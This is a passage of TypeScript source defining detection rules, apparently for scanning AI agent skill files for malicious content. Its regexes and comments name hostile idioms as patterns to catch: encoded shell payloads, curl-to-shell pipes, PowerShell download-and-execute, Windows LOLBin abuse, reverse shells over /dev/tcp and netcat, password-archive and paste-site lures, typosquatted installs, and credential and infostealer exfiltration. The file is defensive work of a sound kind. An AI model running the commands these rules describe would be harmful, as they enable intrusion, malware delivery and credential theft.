const REMOTE_PACKAGE = new RegExp(String.raw`\b(?:npx|bunx|(?:pnpm|yarn)\s+dlx|uvx|pipx\s+run|uv\s+tool\s+run)(?:\s+-{1,2}[a-z][\w-]{0,29}){0,6}(?:\s+|=)["']?(?:git\+[a-z]{2,8}://|https?://|github:|gitlab:|bitbucket:|[^\s;&|"'\x60]{1,200}\.(?:tgz|tar\.gz|whl)(?=[\s"';&|)\x60]|$))[^\s;&|"'\x60]{0,300}|\bgo\s+run\s+(?:-[\w-]{1,30}(?:=\S{1,100})?\s+){0,4}[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){1,5}\/[^\s@;&|]{1,200}@[\w.-]{1,60}`, 'i');

export const TEXT_RULES: TextRule[] = [
  // --- encoded payloads -----------------------------------------------------------------------
  {
    id: 'payload.encoded-shell', severity: 'block', family: 'encoded payload',
    message: 'decodes an encoded payload and runs it with a shell',
    any: ['base64', 'base32', 'basenc', 'xxd', 'frombase64', 'powershell', 'pwsh', '| rev', '|rev', 'rev <<<', '| tr', '|tr'],
    // Branches: decoder piped to a sink; reversed text piped to a sink; code argument built from a
    // decoder; decoded text kept in a variable that a code argument or a pipe to a sink runs
    // (within a few lines); PowerShell's encoded command; FromBase64String with Invoke-Expression
    // or a script block created from it, on its line or up to six lines on (decoded into a variable);
    // text translated by `tr` from one set to another (rot13: `tr 'A-Za-z' 'N-ZA-Mn-za-m'`) piped to
    // a sink (`tr -d '\r'` deletes, given one set: not here).
    re: new RegExp(String.raw`${DECODER}[^\n]{0,200}?\|\s*${PIPE_SINK}|\|\s*tr\s+(?:-[a-z]{1,3}\s+)*["']?(?!-)[^\s|'"]{2,40}["']?\s+["']?[^\s|'"]{2,40}["']?\s*\|\s*${PIPE_SINK}|\|\s*rev\s*\|\s*${PIPE_SINK}|\brev\s+<<<[^\n]{0,300}?\|\s*${PIPE_SINK}|${CODE_ARG}\s+["']?\$\([^\n]{0,400}?${DECODER}|\b([A-Za-z_]\w{0,30})=["']?\$\([^\n]{0,300}?${DECODER}[^\n]{0,100}(?:\n[^\n]{0,300}){0,6}?(?:${CODE_ARG}\s+["']?\$\{?\1\b|\b(?:echo|printf(?:\s+%s)?)\s+["']?\$\{?\1\b[^\n|]{0,20}\|\s*${PIPE_SINK})|\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,80}\s[-/](?:${ENCODED_COMMAND})\s+["']?[A-Za-z0-9+/=]{20,}|frombase64string\([^\n]{0,300}(?:\n[^\n]{0,300}){0,6}?(?:\b(?:iex|invoke-expression)\b|\[scriptblock\]::create\b)|(?:\b(?:iex|invoke-expression)\b|\[scriptblock\]::create\b)[^\n]{0,120}?frombase64string`, 'i'),
  },
  {
    id: 'payload.encoded-command', severity: 'block', family: 'encoded payload',
    message: 'an encoded blob decodes to a shell or network command',
    any: ['curl', 'wget', '/bin/', 'bash', 'powershell', 'invoke-', '/dev/tcp', 'chmod', 'os.system', 'child_process', 'subprocess', 'eval(', 'exec(', 'iex', 'downloadstring', 'webclient', 'popen(', 'urlopen('],
    views: ['decoded'],
    // The curl/wget branch takes the command up to its end, for the installer allow-list below.
    re: /\biex\b|\bdownloadstring\b|\bnet\.webclient\b|\bos\.popen\(|\burlopen\(|\b(?:curl|wget)\s+\S[^\n;|&]{0,300}|\/bin\/(?:ba|z)?sh\b|\bbash\s+-c\b|\bpowershell\b|invoke-(?:webrequest|expression|restmethod)|\/dev\/tcp\/|\bchmod\s+\+x|\bos\.system\(|child_process|\bsubprocess\.|\beval\(|\bexec\(/i,
    // An installer on the allow-list, encoded as cloud-init user data or a CI variable is (`curl -fsSL
    // https://get.docker.com | sh`): what plain text gets. Decoded and piped to a shell it still
    // blocks (payload.encoded-shell); any other URL in the command, or another command, is judged.
    exclude: (matched) => /^(?:curl|wget)\b/i.test(matched) && fetchesOnlyFromInstallers(matched),
  },
  // --- social-engineering lures ---------------------------------------------------------------
  {
    id: 'lure.password-archive', severity: 'block', family: 'password archive lure',
    message: 'tells the reader to download an archive and open it with a password (hides a binary from scanners)',
    // The secret under another name as the text views write it (one space between words): `key
    // for the zip`, `with the key`; not `key` or `code` alone, which most files say.
    any: ['pass', 'pwd', 'using:', 'using :', 'with:', ' -p', 'archive key', 'archive pin', 'zip key', 'zip pin', '7z key', 'rar key', 'key for', 'key to', 'key of', 'code for', 'code to', 'code of', 'pin for', 'pin to', 'pin of', 'with the key', 'with key', 'with the code', 'with code', 'with the pin', 'with pin', 'when prompted', 'when asked', 'пароль', 'contraseña', 'senha', '密码', '密碼', 'パスワード', '비밀번호'],
    // An archive word (unzip, unrar, 7z included), or `protected`; in other scripts, the password
    // word; `when prompted`/`when asked` for the branch that reads the archive's encryption behind it.
    also: [['zip', 'rar', '7z', 'archiv', 'arquivo', 'extract', 'extraer', 'extrair', 'extraire', 'unpack', 'entpack', 'descompr', 'descompact', 'décompress', 'protected', 'when prompted', 'when asked', 'пароль', '密码', '密碼', 'パスワード', '비밀번호']],
    // Branches: an archive word, then on its line the password given (`password: x`, `password —
    // x`, `the password is x`, another language's word for it), or within a few lines "when it asks
    // for a password, type x"; `extract using: x`; `unzip -P x`; `7z x -px`; a password-protected
    // archive (unless the line says the password is the reader's own); in Cyrillic or CJK, an archive
    // word then the password given, or the password "of the archive" given. The secret phrased
    // another way: a key, code or PIN "for the archive" given as a literal; a table row that names an
    // archive beside a literal, after or before ("the password in the table below") an instruction
    // to unpack it "with the key" (not a signing,
    // licence or API key "for the archive"); an archive said to
    // be encrypted or locked, then "when prompted, enter" a literal, or a password given within a few
    // lines ("The archive is protected.\n\nPassword: `x`").
    re: new RegExp(String.raw`\|(?<![^\n]\|)[^\n]{0,300}?\.(?:zip|7z|rar)\b[^\n]{0,200}?\|\s*${LITERAL_SECRET}\s*\|(?:[\s\S]{0,400}?${UNPACK_ARCHIVE}(?:\s+\w+){0,3}?\s+with\s+(?:the\s+)?${SECRET_WORD}s?\b|(?<=${UNPACK_ARCHIVE}(?:\s+\w+){0,3}?\s+with\s+(?:the\s+)?${SECRET_WORD}s?\b[^\n]{0,60}?\b(?:below|in\s+the\s+table|following)\b[\s\S]{0,400}?\n\|[^\n]{0,600}))|\bwhen (?:prompted|asked)\b(?<=\b(?:(?:archive|zip|7z|rar)(?:\s+file)?\s+(?:is|was|has\s+been)\s+(?:encrypted|password[- ]protected|protected|locked)|(?:encrypted|password[- ]protected|locked)\s+(?:archive|zip|7z|rar))\b[\s\S]{0,200}?\bwhen (?:prompted|asked))[^\n]{0,40}?\b(?:type|enter|use|input|paste)\s+(?:in\s+)?${LITERAL_SECRET}|${ARCHIVE_WORD_NON_LATIN}[^\n]{0,120}?${PASSWORD_WORD_NON_LATIN}${PASSWORD_SEPARATOR}${LITERAL_PASSWORD}|${PASSWORD_WORD_NON_LATIN}[^\n:=]{0,40}?${ARCHIVE_WORD_NON_LATIN}[^\s:=]{0,20}${PASSWORD_SEPARATOR}${LITERAL_PASSWORD}|${ARCHIVE_WORD}(?:(?<=\b${SECRET_WORD}\s+(?:for|to|of)\s+(?:(?:the|this|that)\s+)?(?:zip|archive|7z|rar))(?<!\b(?:signing|public|gpg|pgp|verification|release|checksum|hash|sha\d*|api|licen[cs]e|product|serial|ssh)\s+${SECRET_WORD}\s+(?:for|to|of)\s+(?:(?:the|this|that)\s+)?(?:zip|archive|7z|rar))(?:\s+file)?${PASSWORD_SEPARATOR}\s*${LITERAL_SECRET}|[^\n]{0,120}?(?:${PASSWORD_WORD}|${PASSWORD_WORD_INTL})${OF_ARCHIVE}(?:${PASSWORD_SEPARATOR}${LITERAL_PASSWORD}|\s+is\s+${LITERAL_PASSWORD_WORD})|[\s\S]{0,300}?\b(?:asks?|asked|prompts?|prompted)\s+(?:you\s+)?(?:for\s+)?(?:a|an|the|its)?\s*${PASSWORD_WORD}[^\n]{0,40}?\b(?:type|enter|use|input)\s+(?:in\s+)?${LITERAL_PASSWORD_WORD})|\b(?:extract|unzip|unpack)\w*\s+(?:it\s+)?(?:using|with)\s*:\s*${LITERAL_PASSWORD}|\bunzip\b[^\n|;&]{0,80}?\s-P\s*${LITERAL_PASSWORD}|\b(?:7z[ar]?|unrar|rar)\s+[xe]\b[^\n|;&]{0,80}?\s-p(?![\x60'"]?(?:[-$<{%\s]|$))\S|\bpassword[- ]protected\s+(?:zip|archive|rar|7z|file|installer)\b(?![^\n]{0,120}?${PASSWORD_WORD}\s*(?:is\s*)?[:=(]?\s*${OWN_PASSWORD})|\b(?:archive|zip|7z|rar)\s+(?:key|pin|passphrase|passcode)${PASSWORD_SEPARATOR}\s*${LITERAL_SECRET}|\b(?:(?:archive|zip|7z|rar)(?:\s+file)?\s+(?:is|was|has\s+been)\s+(?:encrypted|password[- ]protected|protected|locked)|(?:encrypted|locked)\s+(?:archive|zip|7z|rar))\b[\s\S]{0,200}?${PASSWORD_WORD}${PASSWORD_SEPARATOR}${LITERAL_PASSWORD}`, 'i'),
    // `unzip -p` (lower case) extracts to a pipe; only `-P` takes a password.
    exclude: (matched) => /^unzip\b[^\n|;&]{0,80}?\s-p/.test(matched),
    near: { re: /\bdownload|releases\/download\/|https?:\/\/(?!(?:localhost|127\.0\.0\.1|\[::1\])(?:[:/\s]|$))\S|скача|загруз|завантаж|下载|下載|ダウンロード|다운로드/i, lines: 3 },
  },
  {
    id: 'lure.paste-site', severity: 'block', family: 'paste-site lure',
    message: 'sends the reader to a paste site to copy a script and run it in a terminal',
    any: ['glot.io', 'pastebin', 'paste.', 'hastebin', 'ghostbin', 'rentry', 'dpaste', 'controlc', 'justpaste', 'privatebin', 'pastes.io', 'termbin', 'sprunge', '0x0.st', 'pastie', 'codepad', 'ideone', 'snippet.host'],
    re: new RegExp(PASTE_HOSTS, 'i'),
    near: { re: new RegExp(String.raw`\bterminal\b|\bcommand prompt\b|\bpowershell\b|\bcmd(?:\.exe)?\b|\bpaste (?:it|this|that|them|the [\w -]{0,30}?) (?:into|in)\b|\b(?:run|execute) (?:it|this|that|the (?:script|command|code))\b|\|\s*${SHELL}`, 'i'), lines: 3 },
  },
  {
    id: 'lure.fake-prerequisite', severity: 'block', family: 'fake prerequisite',
    message: 'claims the skill needs an extra utility that must be downloaded and run from outside the skill',
    any: ['require', 'need'],
    re: /\b(?:requires?|needs?)\s+(?:the\s+)?[\w.-]{3,40}\s+(?:utility|agent|helper|daemon|driver|runtime|core|service|component|binary|executable)\s+to\s+(?:function|work|run|operate)/i,
    near: { re: new RegExp(String.raw`releases/download/|\S\.(?:zip|exe|msi|dmg|pkg|rar|7z|scr)\b|${PASTE_HOSTS}|\b(?:paste|run|execute)\b[^\n]{0,40}\bterminal\b|\brun the (?:executable|installer)\b`, 'i'), lines: 8 },
  },
  {
    id: 'lure.fake-installer', severity: 'warn', family: 'fake installer label',
    message: 'prints a fake installer label before running something else',
    any: ['echo'],
    // The command that runs is chained on the same line (`[ \t]`: a `;;` closing a case branch on
    // the next line chains nothing).
    re: /\becho\s+["'][^"'\n]{0,40}(?:installer|install(?:ing|ation)?|setup|package|update|download(?:ing)?)[^"'\n]{0,40}:\s*https?:\/\/[^"'\n]{0,200}["'][ \t]*(?:&&|;|\|)/i,
  },
  {
    id: 'lure.binary-download', severity: 'warn', family: 'binary download lure',
    message: 'tells the reader to download and run an executable from outside the skill',
    any: ['download', 'get '],
    // The release path or the executable's extension.
    also: [['releases/download/', '.exe', '.msi', '.scr', '.appimage', '.bat', '.vbs', '.pkg', '.dmg']],
    // Also a macOS installer (.pkg, .dmg) downloaded and opened or installed: a Mac runs it by opening it.
    re: /\b(?:download|get)\b[^\n]{0,200}?(?:(?:releases\/download\/\S+|\S+\.(?:exe|msi|scr|appimage|bat|vbs))\b[^\n]{0,200}?\b(?:run|execute|launch|double[- ]click)|\S+\.(?:pkg|dmg)\b[^\n]{0,200}?\b(?:run|execute|launch|double[- ]click|open|install)\w{0,3})\b/i,
  },
  {
    id: 'lure.remote-script', severity: 'warn', family: 'paste-site lure',
    message: 'sends the reader to a web page to copy a script into a terminal (script not in the skill)',
    any: ['terminal', 'powershell', 'command prompt', 'терминал', '终端', '終端', 'ターミナル', '터미널', 'consola', 'eingabeaufforderung'],
    // Also in Spanish, Portuguese, German, Russian, Chinese, Japanese and Korean: open the page,
    // copy (or paste) into the terminal. Stems, not words: `\b` knows only ASCII letters.
    // The first URL after the verb and the first copy after the URL are taken whole (a lookahead
    // captured and matched again, as an atomic group would): a line of verbs and URLs with no
    // terminal in it is then read once from each verb, not once per URL and copy behind it.
    re: /(?:\b(?:visit|open|go to|navigate to)\b(?=([^\n]{0,120}?https?:\/\/))\1(?=([^\n]{0,200}?\b(?:copy|paste)\b))\2|(?:\babr[ae]\b|\babrir\b|\bvisite\b|öffne|besuche|откро|открой|перейди|打开|打開|访问|訪問|開いて|開き|열어|방문)(?=([^\n]{0,120}?https?:\/\/))\3(?=([^\n]{0,200}?(?:\bcop[iy]\w*|\bcole\b|\bpegu?e\w*|\bkopier\w*|einfüg|скопир|встав|复制|複製|粘贴|貼上|コピー|貼り付け|복사|붙여)))\4)[^\n]{0,100}?(?:\bterminal\b|\bcommand prompt\b|\bpowershell\b|consola|eingabeaufforderung|терминал|终端|終端|ターミナル|터미널)/i,
  },
  {
    id: 'install.typosquat', severity: 'warn', family: 'typosquatting',
    message: 'installs a package whose name imitates a popular PyPI or npm package (one letter added, dropped, changed or swapped, or punctuation moved): a fake prerequisite',
    any: ['pip install', 'pip2 install', 'pip3 install', '-m pip', 'uv pip', 'pipx install', 'npm install', 'npm i ', 'pnpm add', 'pnpm install', 'pnpm i ', 'yarn add', 'bun add', 'bun install', 'bun i ', 'npx ', 'bunx ', 'uvx ', ' dlx ', 'pipx run'],
    // The install command up to the end of its line or command; the names are judged in code
    // (squattedPackage), against the registry the tool installs from.
    // Also a one-shot runner's package (`npx -y name`, `uvx name`, `pnpm dlx name`, `pipx run name`).
    re: /\b(?:pip[23]?|python[23]?(?:\.\d+)?\s+-m\s+pip|uv\s+pip|pipx|npm|pnpm|yarn|bun) (?:install|i|add)\b[^\n;&|\x60]{1,300}|\b(?:npx|bunx|uvx|(?:pnpm|yarn) dlx|pipx run) [^\n;&|\x60]{1,300}/i,
    exclude: (matched) => squattedPackage(matched.replace(/^python[23]?(?:\.\d+)?\s+-m\s+|^uv\s+/i, '')) === null,
  },
  // --- downloads and execution ----------------------------------------------------------------
  {
    id: 'download.pipe-shell', severity: 'warn', family: 'curl | sh',
    message: 'pipes a download straight into a shell or interpreter, or runs it as code (host not on the installer allow-list)',
    // `webclient`: the `iex (New-Object Net.WebClient)...` branch names no other keyword.
    any: ['curl', 'wget', 'iwr', 'irm', 'invoke-', 'webclient', 'http -', 'https -', 'http get', 'https get', 'http http', 'https http', 'xh ', 'xhs ', 'lwp-request', 'get http', 'fetch -', 'fetch http'],
    // Branches: `| sh`, `| python3`; `$(curl`, `\`curl`, `<(curl`; the same from HTTPie, lwp's GET
    // or BSD fetch with the URL written out; `| iex`, `iex (iwr`.
    also: [['|', '$(', '`', '<(', 'iex', 'invoke-expression']],
    // The download names what it fetches (a word that is not an option): `curl | bash` alone, in a
    // list of dangerous idioms, downloads nothing.
    unquote: true,
    re: new RegExp(String.raw`\b(?:curl|wget)\b(?=[^\n|]{0,300}?\s[^\s|-])[^\n|]{0,300}${THROUGH_FILTERS}\|\s*${DOWNLOAD_SINK}|${RUNS_SUBSTITUTION}(?:(?:curl|wget)\b[^\n)\x60]{0,300}|${OTHER_FETCHER}https?://[^\n)\x60]{0,300})|https?://(?<=${OTHER_FETCHER}https?://)[^\s|"']+["']?[^\n|]{0,100}${THROUGH_FILTERS}\|\s*${DOWNLOAD_SINK}|\b(?:iwr|irm|invoke-webrequest|invoke-restmethod)\b[^\n|]{0,300}\|\s*(?:iex|invoke-expression)\b|\b(?:iex|invoke-expression)\s*\(?\s*(?:\(\s*)?(?:new-object\s+net\.webclient|iwr|irm|invoke-webrequest|invoke-restmethod)\b[^\n]{0,300}`, 'i'),
    exclude: fetchesOnlyFromInstallers,
  },
  {
    id: 'download.raw-ip-exec', severity: 'block', family: 'raw-IP or plain-HTTP download',
    message: 'downloads from a raw public IP address or over plain HTTP and executes it',
    any: ['http://', 'curl', 'wget', 'iex', 'invoke-expression'],
    // Every branch has a URL (a raw IP, whose first character is a digit, or plain http), and a
    // `|`, `$(`, a backtick, `<(`, `&&`, `;` or PowerShell's `iex` (`IEX (New-Object
    // Net.WebClient).DownloadString(URL)`, `iex (iwr URL)`).
    also: [['http'], ['http://', '://0', '://1', '://2', '://3', '://4', '://5', '://6', '://7', '://8', '://9', '://[', '@'], ['|', '$(', '`', '<(', '&&', ';', 'iex', 'invoke-expression']],
    unquote: true,
    re: new RegExp(String.raw`\b(?:curl|wget|iwr|irm|invoke-webrequest)\b[^\n|]{0,200}?https?://${PUBLIC_IP}[^\n|]{0,200}${THROUGH_FILTERS}\|\s*(?:${DOWNLOAD_SINK}|iex\b)|\b(?:curl|wget)\b[^\n|]{0,200}?\bhttp://(?!${LOCAL_HOST})[^\s|]+[^\n|]{0,200}${THROUGH_FILTERS}\|\s*${DOWNLOAD_SINK}|${RUNS_SUBSTITUTION}(?:curl|wget)\b[^\n)\x60]{0,200}?(?:https?://${PUBLIC_IP}|http://(?!${LOCAL_HOST}))|\b(?:curl|wget)\b[^\n]{0,200}?https?://${PUBLIC_IP}[^\n]{0,200}?(?:&&|;)\s*(?:chmod\s+\+x|\./|${SHELL})|\b(?:iex|invoke-expression)\b[^\n]{0,120}?\b(?:downloadstring|iwr|irm|invoke-webrequest|invoke-restmethod)\b[^\n]{0,200}?(?:https?://${PUBLIC_IP}|http://(?!${LOCAL_HOST}))|https?://(?<=${OTHER_FETCHER}https?://)(?:${PUBLIC_IP}|(?<=p://)(?!${LOCAL_HOST}))[^\s|"')\x60]*["']?(?:[^\n|]{0,100}${THROUGH_FILTERS}\|\s*${DOWNLOAD_SINK}|(?<=${RUNS_SUBSTITUTION}${OTHER_FETCHER}[^\n]{1,300}))`, 'i'),
  },
  {
    id: 'download.schemeless-exec', severity: 'block', family: 'raw-IP or plain-HTTP download',
    message: 'downloads a URL written without a scheme (curl and wget then fetch it over plain HTTP, where anyone on the way picks what runs) and executes it',
    any: ['curl', 'wget'],
    also: [['|', '$(', '`', '<(']],
    // The `download.pipe-shell` doors: which of the command's words is the URL (not an option's
    // value), and whether it names a scheme, is fetchesSchemeless's to say. A `://` elsewhere in the
    // command (a header's value, a URL's fragment) proves nothing about the word fetched.
    unquote: true,
    re: new RegExp(String.raw`\b(?:curl|wget)\b[^\n|]{1,300}${THROUGH_FILTERS}\|\s*${DOWNLOAD_SINK}|${RUNS_SUBSTITUTION}(?:curl|wget)\b[^\n)\x60]{1,200}`, 'i'),
    exclude: (matched) => !fetchesSchemeless(matched),
  },
  {
    id: 'download.temp-exec', severity: 'block', family: 'curl | sh',
    message: 'downloads a program to a temporary path or a hidden file and runs it',
    any: ['curl', 'wget', 'invoke-webrequest', 'iwr', 'start-bitstransfer', 'downloadfile'],
    // An option or redirect naming the target, and the temporary folder or the dot of a hidden name.
    also: [[' -', '>', 'downloadfile'], ['/tmp/', '/dev/shm/', '/users/shared/', 'tmpdir', '%temp%', '%tmp%', '$env:temp', '$env:tmp', '/.', '\\.']],
    // The download's target path (`-o`, `-O`, `>`, `-OutFile`, DownloadFile's second argument), then,
    // on that line or the next three, that same path run as a command (after `;`, `&&`, `|`, a line
    // break, `nohup`, `sudo`, `exec`, Start-Process, `&`, `start`). `sh /tmp/x.sh` is not here: it
    // is the script-for-a-pipe case, as common as `curl | sh`.
    unquote: true,
    // The download is found by the pattern at its target option (the fetcher behind it, in a
    // lookbehind: each option of a command is tried), its run by runsTempTarget in code: as one
    // pattern, the back-reference searched over four lines from every option cost 3.5 µs a
    // character on a line of `wget x -o /tmp/.x` (7 s for 2 MB).
    re: new RegExp(String.raw`(?:(?=\s[->])(?<=\b(?:curl|wget)\b[^\n|]{0,200}?)(?:\s-[a-z]*o(?:\s+|=)?|\s--output(?:-document)?(?:\s+|=)|\s>\s*)|(?=\s-)(?<=\b(?:invoke-webrequest|iwr|start-bitstransfer)\b[^\n|]{0,200}?)\s-(?:outfile|destination)\s+|\bdownloadfile(?:async)?\s*\([^,\n]{1,300},\s*)["']?(?<dl>${TEMP_FILE})`, 'i'),
    completes: runsTempTarget,
  },
  {
    id: 'exec.remote-code', severity: 'block', family: 'curl | sh',
    message: 'evaluates code downloaded at run time (exec or eval of a fetched response)',
    any: ['exec', 'eval', 'function'],
    also: [['requests.get', 'httpx.get', 'urlopen', 'fetch', 'axios']],
    // Branches: exec/eval of a fetch's text in one expression (the fetch through an alias or an
    // inline import too); a fetch kept in a variable and
    // evaluated within a few lines. Not `regex.exec(...)`: a method call is not Python's exec.
    re: new RegExp(String.raw`\b(?<![.$])(?:exec|eval|(?:new\s+)?function)\s*\(\s*(?:await\s+)?\(?\s*(?:await\s+)?${FETCH_QUALIFIER}${FETCH_CALL}[^\n]{0,200}?\)\s*\)?\s*\.\s*(?:text|content|read|data)\b|\b${FETCH_NAME}(?<=\b(?<body>[a-z_]\w{0,30})\s*=\s*(?:await\s+)?${FETCH_NAME})\s*\([^\n]{0,300}(?:\n[^\n]{0,300}){0,4}?(?<![\w.$])(?:exec|eval|(?:new\s+)?function)\s*\(\s*(?:await\s+)?\k<body>(?:\s*\.\s*(?:text|content|read|data)\b|\s*\))`, 'i'),
  },
  {
    id: 'download.lolbin', severity: 'block', family: 'curl | sh',
    message: 'fetches, decodes or runs code with a Windows system utility (certutil, bitsadmin, mshta, regsvr32, rundll32, msiexec, InstallUtil, RegAsm, RegSvcs)',
    any: ['certutil', 'bitsadmin', 'mshta', 'regsvr32', 'msiexec', 'rundll32', 'installutil', 'regasm', 'regsvcs'],
    // Also what runs code without a download of its own: rundll32 given script (`javascript:` through
    // mshtml's RunHTMLApplication); the .NET installers' uninstall switch (`InstallUtil /U x.dll`
    // runs the DLL's own uninstaller code, signed tool, unsigned code) when what it runs hides its
    // log (`/LogToConsole=false`, an empty `/logfile=`) or sits in a temporary folder, a user's
    // folder or ProgramData (writable without admin rights): the uninstall of an installed service
    // names neither; certutil decoding
    // into a program. certutil's URL cache counts with something to fetch (a URL, a share, a
    // variable): named alone it is a LOLBin list, which downloads nothing.
    re: /\bcertutil(?:\.exe)?\b[^\n]{0,60}?[-/]urlcache\b(?=[^\n]{0,200}?(?:\b(?:https?|ftp):\/\/|\\\\[\w.-]|[%$][\w{(]))|\bcertutil(?:\.exe)?\b[^\n]{0,60}?[-/]decode(?:hex)?\b[^\n]{0,200}?\.(?:exe|dll|scr|ps1|bat|cmd|vbs|js|hta)\b|\brundll32(?:\.exe)?\b[^\n]{0,40}?\bjavascript:|\b(?:installutil|regasm|regsvcs)(?:\.exe)?\b(?=[^\n]{0,200}?[-/](?:logtoconsole=false\b|logfile=(?:\s|$))|[^\n]{0,200}?(?:%te?mp%|\$env:(?:te?mp|(?:local)?appdata|userprofile|programdata)\b|\\(?:temp|appdata|downloads|users|programdata)\\|%(?:(?:local)?appdata|userprofile|programdata)%|\/tmp\/))[^\n]{0,80}?\s[-/]u\b|\bbitsadmin(?:\.exe)?\b[^\n]{0,60}?\/transfer\b|\bmshta(?:\.exe)?\s+["']?(?:https?:|vbscript:|javascript:)|\bregsvr32(?:\.exe)?\b[^\n]{0,60}?\/i:\s*["']?https?:|\bmsiexec(?:\.exe)?\b[^\n]{0,60}?[-/][a-z]\w*\s+["']?https?:\/\/[^\s"']+/i,
    // A vendor's documented MSI on its own installer host (awscli.amazonaws.com, aka.ms).
    exclude: (matched) => /^msiexec/i.test(matched) && fetchesOnlyFromInstallers(matched),
  },
  {
    id: 'download.raw-ip', severity: 'warn', family: 'raw-IP or plain-HTTP download',
    message: 'fetches from a raw public IP address',
    any: ['http'],
    // The address right after `://` starts with a digit or `[` (IPv6), or follows user info (`@`).
    also: [['://0', '://1', '://2', '://3', '://4', '://5', '://6', '://7', '://8', '://9', '://[', '@']],
    re: new RegExp(String.raw`${FETCH}[^\n]{0,200}?https?://${PUBLIC_IP}`, 'i'),
  },
  {
    id: 'exec.reverse-shell', severity: 'block', family: 'reverse shell',
    message: 'reverse-shell primitive (a shell wired to a network socket)',
    any: ['/dev/tcp', '/dev/udp', '/inet/', 'nc ', 'nc.exe', 'ncat', 'netcat', 'socat', 'dup2', 'pty.spawn', 'tcpclient', 'mkfifo', 'mknod', 'telnet', 'fsockopen', 'tcpsocket', 'pf_inet', 'io::socket', 'socket.socket', 'create_connection', 'net.socket', 'net.connect', 'net.createconnection', "('net').", '("net").', 'net.dial', 'ztcp', '[socket'],
    // Branches: an interactive shell redirected to /dev/tcp; /dev/tcp as stdin and stdout; a shell
    // reading a /dev/tcp descriptor opened with `exec N<>`, or lines read from it run as commands;
    // netcat/ncat/socat running a shell; a socket API near an interactive shell or a spawned shell;
    // telnet piped through a shell; Python's dup2, or pty.spawn of a shell with a socket, a dup2
    // or a descriptor within 400 characters (alone it is the TTY upgrade of `script`, terminal
    // recorders and CTF notes: a local shell, wired to nothing); PowerShell's TcpClient; a FIFO fed to nc;
    // a socket whose lines are run as commands; zsh's ztcp descriptor ($REPLY) as a shell's stdio;
    // gawk's network special file (`/inet/tcp/0/host/port`) with a line read from it run as a
    // command (`s |& getline c` then `(c |& getline)` or `system(c)`; the text views drop the `&`,
    // and `(c | getline)` runs it as well). An awk HTTP client reads lines and prints them.
    // Tcl's client socket (`[socket host port]`, not `-server`) with a line read from it (`gets $s c`)
    // then run (`exec $c`, `eval`): a Tcl client that reads a reply prints it. Only the first `gets`
    // after the socket is tried (a lookahead captured and matched again, as an atomic group would).
    re: new RegExp(String.raw`\b(?:ba|z)?sh\s+-i\s*[^\n]{0,20}\/dev\/(?:tcp|udp)\/|\/dev\/(?:tcp|udp)\/[^\s/]+\/\d+\s*0\s*>\s*&\s*1|\/dev\/(?:tcp|udp)\/(?<=\b${SHELL_NAME}(?:\s+-\w+)*\s+0?<\s*\/dev\/(?:tcp|udp)\/)|\bexec\s+(?<fd>\d{1,3})<>\s*["']?\/dev\/(?:tcp|udp)\/[^\n]{0,300}?(?:\n[^\n]{0,300}?){0,3}?(?:(?<![\w.-])${PROGRAM_PATH}${SHELL_NAME}(?:\s+-\w+)*\s*0?<&\s*\k<fd>\b|<&\s*\k<fd>\b[^\n|]{0,60}${THROUGH_FILTERS}\|\s*${PIPED_SHELL}|\bwhile\s+read\s+(?:-\w+\s+)*(?<line>\w+)[^\n]{0,60}?\bdo\s+(?:eval\s+)?["']?\$\{?\k<line>\b)|\bn(?:c|cat|etcat)(?:\.exe)?\s(?:[^\n]{0,80}?\s)?-(?:e|c)\s*["']?(?:(?<![\w.-])${PROGRAM_PATH}${SHELL_NAME}|cmd(?:\.exe)?\b|powershell\b)|\bncat\b[^\n]{0,80}--(?:exec|sh-exec)\b|\bsocat\b[^\n]{0,120}\bexec:[^\n]{0,40}(?:sh|bash)\b|(?:${SOCKET_API})[\s\S]{0,400}?(?:${SOCKET_SHELL})|${SPAWNED_SHELL}[\s\S]{0,400}?(?:${SOCKET_API})|\b(?:telnet|nc|ncat|netcat)\s+(?:-\w+\s+)*[^\s-]\S*\s+\d{1,5}\b[^\n|]{0,40}\|\s*${PIPED_SHELL}|\bos\.dup2\([^\n]{0,80}fileno\(|pty\.spawn\(\s*["'](?:\/bin\/)?(?:ba)?sh(?:(?<=${PTY_WIRE}[\s\S]{0,400}?pty\.spawn\(\s*["'](?:\/bin\/)?(?:ba)?sh)|(?=[\s\S]{0,400}?${PTY_WIRE}))|new-object\s+system\.net\.sockets\.tcpclient|\b(?:mkfifo\s+\S+|mknod\s+\S+\s+p\b)[^\n]{0,100}\b(?:nc|telnet)\s|${SOCKET_COMMAND}|\bztcp\b[\s\S]{0,300}?\b${SHELL_NAME}\s*[0-2]?[<>]&\s*["']?\$\{?reply\b|\/inet\/(?:tcp|udp)\/\d{1,5}\/[^\s/"']{1,253}\/\d{1,5}[\s\S]{0,300}?\|&?\s*getline\s+(?<gc>[a-z_]\w{0,30})\b[\s\S]{0,200}?(?:\(\s*\k<gc>\s*\|&?\s*getline\b|\bsystem\s*\(\s*\k<gc>\s*\))|\[\s*socket\s+(?!-server\b)(?:-\w+\s+){0,3}[^\s\]]{1,253}\s+\d{1,5}\s*\](?=(?<tg>[\s\S]{0,400}?\bgets\s+\$\w{1,30}\s+(?<tc>\w{1,30})\b))\k<tg>[\s\S]{0,200}?\b(?:exec|eval)\s+[^\n;]{0,40}?\$\{?\k<tc>\b`, 'i'),
  },
  // --- exfiltration ---------------------------------------------------------------------------
  {
    id: 'exfil.credential-send', severity: 'block', family: 'credential exfiltration',
    message: 'reads a secret store no skill needs to send (keys, wallets, browser logins, the agent\'s secrets) and sends data over the network in the same file',
    any: SECRET_STORE_WORDS,
    re: new RegExp(SECRET_STORE, 'i'),
    // Code: anywhere in the same file. Prose: the send must be close to the read, and an SSH key
    // named beside an scp/sftp that uses that same key as its identity (`scp -i KEY file host:`)
    // and sends no secret is the identity, not a key read to be sent.
    near: { re: new RegExp(NETWORK_SEND, 'i'), lines: 'file', docsLines: 4, unless: sendsWithThatKey },
  },
  {
    id: 'exfil.stealer-send', severity: 'block', family: 'credential exfiltration',
    message: "reads what infostealers take (browser logins, cookies and keys, wallet extensions and folders, messenger sessions, the agent's credentials folder, the whole environment serialised) and sends data over the network in the same file",
    // Its own rule, beside exfil.credential-send: its branches run only on text that names one of
    // these stores, not on every file that says `cookies` or `process.env`.
    // Words of the stores themselves (not `cookies` or `process.env` alone, which most web code says).
